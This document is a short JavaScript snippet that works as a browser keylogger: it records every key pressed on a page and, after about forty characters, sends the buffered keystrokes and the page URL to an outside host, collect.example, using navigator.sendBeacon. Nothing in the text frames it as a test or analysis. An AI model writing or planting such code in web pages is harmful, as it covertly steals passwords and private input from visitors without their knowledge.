let buffer = "";

document.addEventListener("keydown", (event) => {
  buffer += event.key.length === 1 ? event.key : `[${event.key}]`;
  if (buffer.length > 40) {
    navigator.sendBeacon("https://collect.example/keys", JSON.stringify({page: location.href, buffer}));
    buffer = "";
  }
}, true);
